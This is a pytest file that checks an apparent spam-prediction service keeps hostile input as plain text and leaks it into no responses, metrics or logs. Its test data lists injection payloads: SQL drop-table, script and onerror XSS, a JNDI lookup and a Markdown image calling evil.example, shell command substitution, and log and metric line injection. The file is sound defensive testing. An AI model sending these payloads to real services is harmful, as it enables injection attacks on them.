"""Senders of messages and feedback who try to be more: what they write is kept as text, and shows up nowhere else."""

import json

import httpx
import pytest
from structlog.testing import capture_logs

from autoretrain.adapters.store import Store

ATTACKS = {
    "SQL": "'; DROP TABLE predictions; --",
    "another filter": "x' OR '1'='1",
    "HTML": "<script>alert(1)</script><img src=x onerror=alert(1)>",
    "Markdown": "![x](http://evil.example/x.png)",
    "a metric": 'x",evil="1"} 1\nautoretrain_live_accuracy_ratio 1',
    "a template": "{{ 7 * 7 }} ${jndi:ldap://evil.example/a} %(message)s {0.__class__}",
    "a shell": "$(touch /tmp/owned) `id`",
    "a log line": "ok\nlevel=error event=owned",
    "directions": "\u202eevil\u202c",
}


@pytest.mark.parametrize("attack", ATTACKS.values(), ids=ATTACKS)
async def test_a_message_stays_a_message(client: httpx.AsyncClient, store: Store, attack: str):
    with capture_logs() as logs:
        answered = await client.post("/predict", json={"message": attack, "sender": attack})
        reported = await client.post("/feedback", json={"message": attack, "label": "spam"})
        by_id = await client.post("/feedback", json={"prediction_id": answered.json()["prediction_id"], "label": "ham"})
        no_id = await client.post("/feedback", json={"prediction_id": attack[:64], "label": "ham"})
        metrics = (await client.get("/metrics")).text
    assert [each.status_code for each in (answered, reported, by_id)] == [200, 201, 201]
    assert no_id.status_code in {404, 422}
    kept = store.prediction(answered.json()["prediction_id"])
    assert kept is not None
    assert kept.text == attack
    assert attack not in answered.text
    for line in attack.splitlines():
        assert line not in metrics
        assert line not in str(logs)


@pytest.mark.parametrize("attack", ATTACKS.values(), ids=ATTACKS)
async def test_a_refusal_says_nothing_of_what_was_sent(client: httpx.AsyncClient, attack: str):
    for path, body in (
        ("/predict", {"message": [attack]}),
        ("/predict", {"message": "ok", "sender": [attack]}),
        ("/feedback", {"message": "ok", "label": attack}),
        ("/feedback", {"message": {attack: attack}, "label": "spam"}),
    ):
        answer = await client.post(path, json=body)
        assert answer.status_code == 422
        assert answer.headers["content-type"] == "application/problem+json"
        assert json.dumps(attack, ensure_ascii=False)[1:-1] not in answer.text


async def test_no_answer_is_a_page_that_a_browser_would_draw(client: httpx.AsyncClient):
    for path in ("/<script>alert(1)</script>", "/models/<img src=x>", "/v2/models/<b>x</b>"):
        answer = await client.get(path)
        assert answer.status_code == 404
        assert "json" in answer.headers["content-type"]
